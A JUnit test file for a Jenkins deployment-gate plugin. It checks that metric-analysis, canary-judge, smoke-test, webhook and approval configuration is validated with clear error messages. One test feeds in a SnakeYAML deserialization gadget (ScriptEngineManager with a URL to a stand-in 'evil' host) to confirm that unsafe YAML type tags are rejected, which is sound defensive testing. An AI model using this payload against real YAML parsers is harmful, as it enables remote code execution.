package io.jenkins.plugins.devops.core.analysis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.jenkins.plugins.devops.core.analysis.approval.ApprovalDecision;
import io.jenkins.plugins.devops.core.analysis.judge.CanaryJudgeSpec;
import io.jenkins.plugins.devops.core.analysis.judge.Direction;
import io.jenkins.plugins.devops.core.analysis.prometheus.InconclusivePolicy;
import io.jenkins.plugins.devops.core.analysis.prometheus.MetricAnalysisSpec;
import io.jenkins.plugins.devops.core.gate.GatePoint;
import io.jenkins.plugins.devops.core.gate.HealthGate;
import java.net.http.HttpClient;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Configuration is checked before any deployment starts, with messages that say what to fix. */
class GateSpecTest {
    private static final String PROM = "http://prometheus.monitoring:9090";

    private static Map<String, Object> metric(Object... pairs) {
        Map<String, Object> map = new HashMap<>(Map.of("name", "error-rate", "prometheusUrl", PROM));
        for (int i = 0; i < pairs.length; i += 2) {
            map.put((String) pairs[i], pairs[i + 1]);
        }
        return map;
    }

    private static GateSpec analysis(Map<String, Object> item) {
        return GateSpec.fromMaps(List.of(item), null, null);
    }

    @Test
    void templateGetsItsDefaultThresholdAndArgoStyleDefaults() {
        MetricAnalysisSpec spec =
                analysis(metric("template", "request-success-rate")).metrics().get(0);

        assertThat(spec.threshold().min()).isEqualTo(99.0);
        assertThat(spec.threshold().max()).isNull();
        assertThat(spec.count()).isEqualTo(1);
        assertThat(spec.failureLimit()).isZero();
        assertThat(spec.inconclusive().mode()).isEqualTo(InconclusivePolicy.Mode.FAIL);
        assertThat(spec.points()).containsExactly(GatePoint.STEP);
        assertThat(spec.query())
                .isEqualTo("100 * (sum(rate(http_requests_total{namespace=\"{{namespace}}\",service=\"{{service}}\","
                        + "status!~\"5..\"}[1m])) or vector(0)) / sum(rate(http_requests_total{namespace=\"{{namespace}}\","
                        + "service=\"{{service}}\"}[1m]))");
    }

    @Test
    void templateMetricAndLabelNamesAreConfigurable() {
        MetricAnalysisSpec spec = analysis(metric(
                        "template", "request-duration",
                        "metricName", "http_server_requests_seconds_bucket",
                        "selector", "app=\"{{service}}\"",
                        "window", "2m"))
                .metrics()
                .get(0);

        assertThat(spec.threshold().max()).isEqualTo(500.0);
        assertThat(spec.query())
                .isEqualTo("1000 * histogram_quantile(0.99, sum by (le) (rate(http_server_requests_seconds_bucket"
                        + "{app=\"{{service}}\"}[2m])))");
    }

    @Test
    void statusLabelIsConfigurable() {
        MetricAnalysisSpec spec = analysis(metric("template", "request-success-rate", "statusLabel", "code"))
                .metrics()
                .get(0);

        assertThat(spec.query()).contains("code!~\"5..\"").doesNotContain("status");
    }

    @Test
    void emptyQueryIsRejected() {
        assertThatThrownBy(() -> analysis(metric("query", " ", "min", 1)))
                .isInstanceOf(InvalidGateConfigurationException.class)
                .hasMessageStartingWith("analysis[0] 'error-rate': the query is empty; set 'query' to PromQL")
                .hasMessageContaining("request-success-rate");
    }

    @Test
    void maxBelowMinIsRejected() {
        assertThatThrownBy(() -> analysis(metric("query", "up", "min", 10, "max", 5)))
                .isInstanceOf(InvalidGateConfigurationException.class)
                .hasMessage("analysis[0] 'error-rate': max 5.0 is below min 10.0; a value could never pass — swap them"
                        + " or fix one");
    }

    @Test
    void unknownTemplateIsRejectedWithTheClosestName() {
        assertThatThrownBy(() -> analysis(metric("template", "request-sucess-rate")))
                .isInstanceOf(InvalidGateConfigurationException.class)
                .hasMessage("analysis[0] 'error-rate': unknown template 'request-sucess-rate' — did you mean"
                        + " 'request-success-rate'?; built-in templates: request-success-rate, request-duration (or"
                        + " write a query)");
    }

    @Test
    void negativeOrUnreadableIntervalIsRejected() {
        assertThatThrownBy(() -> analysis(metric("template", "request-success-rate", "interval", "-30s", "count", 3)))
                .hasMessage("analysis[0] 'error-rate': 'interval' must not be negative, was '-30s'; use e.g. 30s");
        assertThatThrownBy(() -> analysis(metric("template", "request-success-rate", "interval", "30 secs")))
                .hasMessageContaining("'interval' is not a duration: '30 secs'; use e.g. 500ms, 30s, 5m or 1h");
        assertThatThrownBy(() -> analysis(metric("template", "request-success-rate", "count", 0)))
                .hasMessageContaining("'count' must be at least 1, was 0");
    }

    @Test
    void durationsAcceptUnitsCombinationsAndPlainSeconds() {
        MetricAnalysisSpec spec = analysis(
                        metric("template", "request-success-rate", "interval", "1m30s", "count", 2, "initialDelay", 5))
                .metrics()
                .get(0);

        assertThat(spec.interval()).isEqualTo(Duration.ofSeconds(90));
        assertThat(spec.initialDelay()).isEqualTo(Duration.ofSeconds(5));
    }

    @Test
    void badUrlMissingConditionAndUnknownSettingAreRejected() {
        assertThatThrownBy(() -> analysis(metric("template", "request-success-rate", "prometheusUrl", "prom:9090")))
                .hasMessage("analysis[0] 'error-rate': 'prometheusUrl' is not an http(s) URL: 'prom:9090'; use e.g."
                        + " http://prometheus.monitoring:9090");
        assertThatThrownBy(() -> analysis(metric("query", "up")))
                .hasMessageContaining("needs a success condition; set min, max or both");
        assertThatThrownBy(() -> analysis(metric("template", "request-success-rate", "failurLimit", 1)))
                .hasMessageStartingWith(
                        "analysis[0] 'error-rate': unknown setting 'failurLimit' — did you mean" + " 'failureLimit'?");
        assertThatThrownBy(() -> analysis(metric("query", "up{service=\"{{servce}}\"}", "min", 1)))
                .hasMessageContaining("unknown placeholder {{servce}} — did you mean 'service'?");
        assertThatThrownBy(() -> analysis(metric("template", "request-success-rate", "inconclusive", "wait")))
                .hasMessageContaining("'inconclusive' must be fail (default), pass or retry");
        assertThatThrownBy(() -> GateSpec.fromMaps(null, List.of(Map.of("url", "ftp://host/x")), null))
                .hasMessageStartingWith("smokeTests[0]: 'url' is not an http(s) URL");
        assertThatThrownBy(() -> GateSpec.fromMaps(
                        null, null, List.of(Map.of("name", "hook", "url", "https://x/", "points", List.of("promote")))))
                .hasMessageContaining("unknown point 'promote'; use pre-rollout, step, confirm-promotion");
    }

    @Test
    void duplicateNamesAreRejected() {
        assertThatThrownBy(() -> GateSpec.fromMaps(
                        List.of(metric("template", "request-success-rate"), metric("template", "request-duration")),
                        null,
                        null))
                .hasMessageContaining("the name 'error-rate' is used twice");
    }

    @Test
    void judgeNeedsTrackInItsQueriesAndSensibleScores() {
        Map<String, Object> judge = new HashMap<>(Map.of(
                "type",
                "canary-judge",
                "name",
                "judge",
                "prometheusUrl",
                PROM,
                "metrics",
                List.of(Map.of("name", "errors", "query", "sum(rate(errors_total[1m]))"))));
        assertThatThrownBy(() -> analysis(judge)).hasMessageContaining("must contain {{track}} or {{podRegex}}");

        judge.put(
                "metrics", List.of(Map.of("template", "request-success-rate"), Map.of("template", "request-duration")));
        judge.put("passScore", 70);
        assertThatThrownBy(() -> analysis(judge)).hasMessageContaining("marginalScore 75.0 is above passScore 70.0");

        judge.remove("passScore");
        CanaryJudgeSpec spec = analysis(judge).judges().get(0);
        assertThat(spec.confidence()).isEqualTo(0.98);
        assertThat(spec.passScore()).isEqualTo(95.0);
        assertThat(spec.marginalScore()).isEqualTo(75.0);
        assertThat(spec.metrics())
                .extracting(m -> m.direction())
                .containsExactly(Direction.DECREASE, Direction.INCREASE);
        assertThat(spec.metrics().get(0).query()).contains("namespace=\"{{namespace}}\",pod=~\"{{podRegex}}\"");
    }

    @Test
    void yamlIsReadSafelyAndBuildsEveryGate() {
        String yaml =
                """
                analysis:
                  - name: success-rate
                    template: request-success-rate
                    interval: 30s
                    count: 5
                    failureLimit: 1
                    prometheusUrl: http://prometheus:9090
                    credentialsId: prom-token
                  - type: canary-judge
                    name: judge
                    prometheusUrl: http://prometheus:9090
                    metrics:
                      - template: request-success-rate
                        critical: true
                smokeTests:
                  - name: health
                    url: http://{{targets.previewService}}.{{namespace}}:8080/health
                    jsonPath: $.status
                    equals: UP
                webhooks:
                  - name: load-test
                    url: https://hooks.example.com/deploy
                    points: [pre-rollout, step]
                    credentialsId: hook-secret
                approval:
                  environments: [production]
                """;
        Map<String, String> secrets = Map.of("prom-token", "t0k3n", "hook-secret", "k3y");

        List<HealthGate> gates = new GateFactory(secrets::get, HttpClient.newHttpClient())
                .withApprover((request, progress) -> ApprovalDecision.approved("alice", ""))
                .create(GateSpec.fromYaml(yaml));

        assertThat(gates)
                .extracting(HealthGate::name)
                .containsExactly("load-test", "smoke-tests", "prometheus-analysis", "judge", "approval");
        assertThat(gates.get(0).points()).containsExactlyInAnyOrder(GatePoint.PRE_ROLLOUT, GatePoint.STEP);
        assertThat(gates.get(4).points()).containsExactly(GatePoint.CONFIRM_PROMOTION);
        assertThat(gates.toString()).doesNotContain("t0k3n").doesNotContain("k3y");
    }

    @Test
    void yamlWithTypeTagsOrUnknownSectionsIsRejected() {
        assertThatThrownBy(() -> GateSpec.fromYaml(
                        "analysis: !!javax.script.ScriptEngineManager [!!java.net.URL" + " [\"http://evil/\"]]"))
                .isInstanceOf(InvalidGateConfigurationException.class)
                .hasMessage("gate configuration is not valid YAML at line 1, column 11: the tag"
                        + " !!javax.script.ScriptEngineManager is not allowed (only plain maps, lists and values are);"
                        + " fix it there (the format is in docs/analysis.md)");
        assertThatThrownBy(() -> GateSpec.fromYaml("smokeTests:\n  - url: [unclosed\n", "gates file 'g.yaml'"))
                .isInstanceOf(InvalidGateConfigurationException.class)
                .hasMessage("gates file 'g.yaml' is not valid YAML at line 3, column 1: expected ',' or ']', but got"
                        + " <stream end>; fix it there (the format is in docs/analysis.md)");
        assertThatThrownBy(() -> GateSpec.fromYaml("smokeTest: []"))
                .hasMessageContaining("unknown key 'smokeTest' — did you mean 'smokeTests'?");
        assertThat(GateSpec.fromYaml("")).isEqualTo(GateSpec.empty());
    }

    @Test
    void missingCredentialsAndMissingApproverAreReportedBeforeTheDeployment() {
        GateSpec withToken = analysis(metric("template", "request-success-rate", "credentialsId", "prom-token"));
        GateSpec withApproval = GateSpec.fromMaps(null, null, null, Map.of("environments", List.of("production")));

        assertThatThrownBy(() -> new GateFactory(SecretResolver.NONE).create(withToken))
                .isInstanceOf(InvalidGateConfigurationException.class)
                .hasMessage("analysis metric 'error-rate': credentials 'prom-token' were not found or are empty;"
                        + " create them or fix credentialsId");
        assertThatThrownBy(() -> new GateFactory(SecretResolver.NONE).create(withApproval))
                .hasMessageStartingWith("approval is configured but this runner cannot ask anyone");
    }
}
